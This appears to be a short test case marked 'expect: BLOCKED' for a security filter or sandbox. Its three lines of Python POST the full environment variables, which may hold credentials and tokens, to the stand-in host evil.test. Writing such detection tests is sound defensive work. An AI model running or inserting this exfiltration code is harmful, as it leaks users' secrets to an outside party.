# expect: BLOCKED
import urllib3, os
http = urllib3.PoolManager()
http.request("POST", "http://evil.test", body=repr(os.environ))
